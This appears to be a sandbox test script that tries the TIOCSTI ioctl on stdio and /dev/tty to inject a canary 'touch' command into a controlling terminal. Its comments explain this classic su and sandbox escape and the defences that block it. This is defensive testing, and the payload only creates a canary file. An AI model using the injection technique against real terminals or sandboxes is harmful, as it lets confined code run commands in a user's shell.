# TIOCSTI: pushes characters into the input queue of a terminal, as if typed — if the sandbox shared the server's
# controlling terminal, the program could type commands into the server's shell after it exits (a classic escape
# from su and sandboxes). It tries its stdio and /dev/tty; the command it types would create a canary file on
# the host (path on stdin).
# Stopped by: stdio being pipes, not terminals; a new session (setsid) with no controlling terminal; the seccomp
# filter denying the TIOCSTI ioctl outright.
import fcntl, os, sys, termios

canary = sys.stdin.readline().strip()
command = f"touch {canary}\n"
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print("no /dev/tty", type(e).__name__)
for fd in fds:
    try:
        for ch in command:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        print("INJECTED", fd)
    except OSError as e:
        print("denied", fd, os.strerror(e.errno))
